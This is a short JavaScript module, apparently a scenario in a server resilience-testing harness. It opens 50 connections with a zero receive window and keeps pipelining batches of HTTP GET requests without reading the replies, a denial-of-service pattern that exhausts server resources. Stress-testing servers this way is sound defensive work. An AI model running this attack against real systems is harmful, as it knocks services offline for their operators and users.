export const summary = '50 clients that pipeline requests of HTTP, window after window, and take no answer'

const REQUESTS = Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(50))

export const attack = async (peers, { goesOn }) => {
  const all = await peers.connectMany(50, 80, { window: 0 })
  while (await goesOn(20)) for (const c of all) c.write(REQUESTS)
}
